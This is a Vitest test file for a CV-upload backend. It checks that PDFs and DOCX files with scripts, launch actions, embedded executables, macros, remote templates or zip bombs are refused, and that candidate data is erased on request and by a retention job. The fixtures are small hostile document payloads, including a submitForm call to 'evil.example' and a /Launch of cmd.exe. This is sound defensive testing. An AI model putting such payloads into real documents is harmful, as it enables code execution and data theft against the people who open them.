import fs from 'node:fs/promises';
import path from 'node:path';
import { performance } from 'node:perf_hooks';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Response } from 'supertest';
import { detectDocumentKind, publicMessage, type LanguageCode, type PublicMessageKey } from '@qahve/config';
import { nonAdministratorToken } from './support/moderation';
import { loginAsAdministrator } from './support/admin';
import { docx, pdf, pdfWith, pdfWithObjectStream, relationships, zipBombDocx } from './support/hostile-files';
import { appModule, startServer, type TestServer } from './support/strapi';

/**
 * Issue 13, "CVs and personal data": CVs with active content or that unpack to a bomb are refused
 * (400 naming resumeFile, nothing stored); an administrator erases a candidate and the CV for good;
 * candidates older than CV_RETENTION_DAYS are erased by the retention job, which logs no one.
 */

const CANDIDATE = 'api::candidate.candidate';
const ADMIN_BASE = '/api/v1/admin/Candidates';
const DAY = 24 * 60 * 60 * 1000;

let server: TestServer;
let token: string;
const admin = () => server.api().set('Authorization', `Bearer ${token}`);

beforeAll(async () => {
  server = await startServer({ CV_RETENTION_DAYS: '30' });
  token = (await loginAsAdministrator(server)).accessToken;
});

afterAll(async () => {
  await server?.stop();
});

const cvDir = () => process.env.CV_STORAGE_DIR!;
const storedCvs = async () => (await fs.readdir(cvDir()).catch(() => [] as string[])).sort();
const rows = () => server.strapi.db.query(CANDIDATE).count({});

let applicant = 0;
function apply(file: Buffer, filename: string, languageId = 2) {
  const n = ++applicant;
  return server
    .api()
    .post(`/api/v1/client/Candidates?languageId=${languageId}`)
    .field({ name: `Aysel${n}`, surname: `Quliyeva${n}`, number: '+994 50 123 45 67', email: `aysel${n}@example.az` })
    .attach('resumeFile', file, filename);
}

/** A refusal in the spec's style: 400, JSON, the message on resumeFile; no row and no CV added. */
async function expectRefused(file: Buffer, filename: string, key: PublicMessageKey, locale: LanguageCode = 'az') {
  const languageId = { en: 1, az: 2, ru: 3 }[locale];
  const [cvsBefore, rowsBefore] = [await storedCvs(), await rows()];
  const res: Response = await apply(file, filename, languageId);
  const message = publicMessage(locale, key);
  expect(res.status, `${filename}: ${res.status} ${JSON.stringify(res.body)}`).toBe(400);
  expect(res.headers['content-type']).toMatch(/application\/json/);
  expect(res.body.message).toBe(message);
  expect(res.body.errors).toEqual([{ field: 'resumeFile', message }]);
  expect(await storedCvs()).toEqual(cvsBefore);
  expect(await rows()).toBe(rowsBefore);
}

async function expectAccepted(file: Buffer, filename: string) {
  const res = await apply(file, filename);
  expect(res.status, `${filename}: ${JSON.stringify(res.body)}`).toBe(201);
  return res.body.id as number;
}

describe('CVs with active content', () => {
  it('refuses PDFs with scripts, launch actions and attached files, however their names are written', async () => {
    const cases: Array<[string, Buffer]> = [
      [
        'a /JavaScript name tree',
        pdfWith(
          '<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>',
          '<< /Names [(a) 3 0 R] >>',
          '<< /S /JavaScript /JS (app.alert(1)) >>',
        ),
      ],
      [
        'an /OpenAction that runs a script',
        pdfWith('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (this.submitForm("https://evil.example")) >> >>'),
      ],
      ['a page action with /JS only', pdfWith('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Page /AA << /O << /JS 3 0 R >> >> >>')],
      ['a /Launch action', pdfWith('<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) /P (/c calc) >> >>')],
      [
        '/EmbeddedFiles',
        pdfWith(
          '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >> >>',
          '<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>',
        ),
      ],
      [
        'an /EmbeddedFile stream',
        Buffer.concat([
          pdfWith('<< /Type /Catalog >>'),
          Buffer.from('4 0 obj << /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n'),
        ]),
      ],
      ['hex-escaped /J#61vaScript and /#4A#53', pdfWith('<< /Type /Catalog /OpenAction << /S /J#61vaScript /#4A#53 (app.alert(1)) >> >>')],
      ['hex-escaped /L#61unch', pdfWith('<< /Type /Catalog /OpenAction << /S /L#61#75nch /F (cmd.exe) >> >>')],
      ['hex-escaped /Embedded#46iles', pdfWith('<< /Type /Catalog /Names << /Embedded#46iles 2 0 R >> >>')],
      [
        'a script inside a FlateDecode object stream',
        pdfWithObjectStream('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
      ],
      [
        'an escaped launch inside an object stream',
        pdfWithObjectStream('<< /Type /Catalog /OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >> >>'),
      ],
    ];
    for (const [name, bytes] of cases) {
      expect(detectDocumentKind(bytes), name).toBe('pdf');
      await expectRefused(bytes, `${name}.pdf`, 'fileActiveContent');
    }
    await expectRefused(cases[0][1], 'cv.pdf', 'fileActiveContent', 'en');
    await expectRefused(cases[0][1], 'cv.pdf', 'fileActiveContent', 'ru');
  });

  it('keeps ordinary PDFs: a go-to-page /OpenAction, "HTML/CSS/JS" in the text, a compressed catalog', async () => {
    const text = 'BT /F1 12 Tf 72 712 Td (Skills: HTML/CSS/JS, /JavaScript) Tj ET';
    const ordinary = pdfWith(
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>`,
      `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    );
    const before = await rows();
    await expectAccepted(ordinary, 'cv.pdf');
    await expectAccepted(pdfWithObjectStream('<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] >>'), 'cv.pdf');
    await expectAccepted(pdf('plain'), 'cv.pdf');
    expect(await rows()).toBe(before + 3);
  });

  it('refuses DOCX with macros, ActiveX, OLE objects or a remote template', async () => {
    const cases: Array<[string, Buffer]> = [
      ['word/vbaProject.bin', docx({ 'word/vbaProject.bin': Buffer.from('\xd0\xcf\x11\xe0 VBA', 'latin1') })],
      ['a vbaProject.bin anywhere, any case', docx({ 'customXml/VBAPROJECT.BIN': 'x' })],
      ['a .docm main part', docx({}, { main: 'application/vnd.ms-word.document.macroEnabled.main+xml' })],
      ['a vbaProject content type', docx({}, { types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' })],
      ['an ActiveX control', docx({ 'word/activeX/activeX1.xml': '<ax:ocx/>' })],
      ['an OLE object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
      [
        'a remote template',
        docx({ 'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'https://evil.example/t.dotm', true) }),
      ],
    ];
    for (const [name, bytes] of cases) {
      expect(detectDocumentKind(bytes), name).toBe('docx');
      await expectRefused(bytes, 'cv.docx', 'fileActiveContent');
    }
  });

  it('keeps a DOCX with a hyperlink, a local template and an embedded chart workbook', async () => {
    await expectAccepted(
      docx({
        'word/_rels/document.xml.rels': relationships('hyperlink', 'https://www.linkedin.com/in/aysel', true),
        'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'file:///C:/Users/aysel/Templates/CV.dotx', true),
        'word/embeddings/Microsoft_Excel_Worksheet.xlsx': 'PK',
      }),
      'cv.docx',
    );
  });

  it('refuses a zip-bomb DOCX from its central directory in milliseconds, without inflating it', async () => {
    const bomb = await zipBombDocx(256);
    expect(bomb.bytes.length).toBeLessThan(2 * 1024 * 1024);
    const { cvProblem } = appModule<typeof import('../src/lib/candidates/document-check')>('lib/candidates/document-check');
    const rss = process.memoryUsage().rss;
    const started = performance.now();
    const problem = cvProblem(new Uint8Array(bomb.bytes), 'docx');
    const elapsed = performance.now() - started;
    expect(problem).toBe('fileUnchecked');
    expect(elapsed, `${elapsed.toFixed(2)} ms`).toBeLessThan(20);
    expect(process.memoryUsage().rss - rss).toBeLessThan(32 * 1024 * 1024);
    await expectRefused(bomb.bytes, 'cv.docx', 'fileUnchecked');

    // One that stays under 20 MB in total but packs one entry far past 100:1.
    const small = await zipBombDocx(8);
    expect(cvProblem(new Uint8Array(small.bytes), 'docx')).toBe('fileUnchecked');
    await expectRefused(small.bytes, 'cv.docx', 'fileUnchecked', 'en');
  });

  it('refuses a PDF whose object stream inflates beyond the ratio', async () => {
    const padding = ' '.repeat(4 * 1024 * 1024);
    await expectRefused(pdfWithObjectStream(`<< /Type /Catalog >>${padding}`), 'cv.pdf', 'fileUnchecked');
  });
});

/** A candidate stored through the public form, with its row and the path of its CV. */
async function storedCandidate(file = pdf('erase'), name = 'cv.pdf') {
  const id = await expectAccepted(file, name);
  const row = await server.strapi.db.query(CANDIDATE).findOne({ where: { id } });
  const cv = path.join(cvDir(), row.resumeFile);
  await fs.access(cv);
  return { id, row, cv };
}

const gone = async (file: string) => (await fs.stat(file).catch(() => null)) === null;

describe('DELETE /api/v1/admin/Candidates/{id}', () => {
  it('erases the row and the CV for good; the detail, the download and a second erase answer 404', async () => {
    const { id, row, cv } = await storedCandidate();
    const kept = await storedCandidate(docx(), 'cv.docx');

    const detail = await admin().get(`${ADMIN_BASE}/${id}`);
    expect(detail.status).toBe(200);
    expect(detail.headers['cache-control']).toBe('private, no-store');
    expect((await admin().get(`${ADMIN_BASE}/${id}/Resume`)).status).toBe(200);

    const res = await admin().delete(`${ADMIN_BASE}/${id}`);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toEqual({ id });
    expect(res.headers['cache-control']).toBe('private, no-store');

    // Gone from the database (no row of the document left, not a flag) and from the disk.
    const left = await server.strapi.db.connection('candidates').where({ document_id: row.documentId }).count({ n: '*' });
    expect(Number(left[0].n)).toBe(0);
    expect(await gone(cv)).toBe(true);
    expect(await storedCvs()).not.toContain(row.resumeFile);

    for (const url of [`${ADMIN_BASE}/${id}`, `${ADMIN_BASE}/${id}/Resume`]) {
      const after = await admin().get(url);
      expect(after.status, url).toBe(404);
      expect(after.body.message).toEqual(expect.any(String));
    }
    expect((await admin().delete(`${ADMIN_BASE}/${id}`)).status).toBe(404);
    const list = await admin().get(`${ADMIN_BASE}?pageSize=100`);
    expect(list.body.items.map((item: { id: number }) => item.id)).not.toContain(id);

    // The other candidate is untouched.
    expect((await admin().get(`${ADMIN_BASE}/${kept.id}`)).body.resumePath).toMatch(/\/Resume$/);
    expect(await gone(kept.cv)).toBe(false);
  });

  it('answers 404 for an unknown id and 400 for one that is no id', async () => {
    expect((await admin().delete(`${ADMIN_BASE}/999999`)).status).toBe(404);
    expect((await admin().delete(`${ADMIN_BASE}/abc`)).status).toBe(400);
  });

  it('is for administrators only: 401 without a token, 403 for a signed-in visitor; nothing erased', async () => {
    const { id, cv } = await storedCandidate();
    const anonymous = await server.api().delete(`${ADMIN_BASE}/${id}`);
    expect(anonymous.status).toBe(401);
    const visitor = await server
      .api()
      .delete(`${ADMIN_BASE}/${id}`)
      .set('Authorization', `Bearer ${await nonAdministratorToken(server)}`);
    expect(visitor.status).toBe(403);
    expect(await server.strapi.db.query(CANDIDATE).findOne({ where: { id } })).not.toBeNull();
    expect(await gone(cv)).toBe(false);
  });
});

describe('CV_RETENTION_DAYS', () => {
  const { runCvRetention } = appModule<typeof import('../src/bootstrap/cv-retention')>('bootstrap/cv-retention');

  async function backdate(id: number, days: number) {
    const meta = server.strapi.db.metadata.get(CANDIDATE);
    const column = (meta.attributes.createdAt as { columnName?: string }).columnName ?? 'created_at';
    await server.strapi.db
      .connection(meta.tableName)
      .where({ id })
      .update({ [column]: new Date(Date.now() - days * DAY) });
  }

  it('erases the candidates and CVs older than the setting, keeps the recent ones, and logs counts only', async () => {
    const old = await storedCandidate(pdf('old'), 'old.pdf');
    const oldDocx = await storedCandidate(docx(), 'old.docx');
    const recent = await storedCandidate(pdf('recent'), 'recent.pdf');
    const edge = await storedCandidate(pdf('edge'), 'edge.pdf');
    await backdate(old.id, 31);
    await backdate(oldDocx.id, 400);
    await backdate(edge.id, 29);

    const lines: string[] = [];
    const capture = (...args: unknown[]) => void lines.push(args.map(String).join(' '));
    const spies = (['info', 'warn', 'error', 'debug'] as const).map((level) =>
      vi.spyOn(server.strapi.log, level).mockImplementation(capture as never),
    );
    let erased: number;
    try {
      erased = await runCvRetention(server.strapi);
    } finally {
      spies.forEach((spy) => spy.mockRestore());
    }

    expect(erased).toBe(2);
    for (const gone_ of [old, oldDocx]) {
      expect(await server.strapi.db.query(CANDIDATE).findOne({ where: { id: gone_.id } })).toBeNull();
      expect(await gone(gone_.cv)).toBe(true);
      expect((await admin().get(`${ADMIN_BASE}/${gone_.id}`)).status).toBe(404);
    }
    for (const kept of [recent, edge]) {
      expect(await server.strapi.db.query(CANDIDATE).findOne({ where: { id: kept.id } })).not.toBeNull();
      expect(await gone(kept.cv)).toBe(false);
    }

    expect(lines.join('\n')).toMatch(/erased 2 candidate/);
    for (const { row } of [old, oldDocx]) {
      for (const personal of [row.name, row.surname, row.email, row.number, row.resumeFile])
        expect(lines.join('\n')).not.toContain(personal);
    }
    // A second run finds nothing more.
    expect(await runCvRetention(server.strapi)).toBe(0);
  });

  it('does nothing when turned off (0 or off), and refuses a value that is no number of days', async () => {
    const { id } = await storedCandidate(pdf('off'), 'off.pdf');
    await backdate(id, 1000);
    const saved = process.env.CV_RETENTION_DAYS;
    try {
      for (const off of ['0', 'off', 'OFF']) {
        process.env.CV_RETENTION_DAYS = off;
        expect(await runCvRetention(server.strapi)).toBe(0);
      }
      expect(await server.strapi.db.query(CANDIDATE).findOne({ where: { id } })).not.toBeNull();
      for (const bad of ['-1', '1.5', 'soon', '99999']) {
        process.env.CV_RETENTION_DAYS = bad;
        await expect(runCvRetention(server.strapi)).rejects.toThrow(/CV_RETENTION_DAYS/);
      }
    } finally {
      process.env.CV_RETENTION_DAYS = saved;
    }
    expect(await runCvRetention(server.strapi)).toBe(1);
  });
});
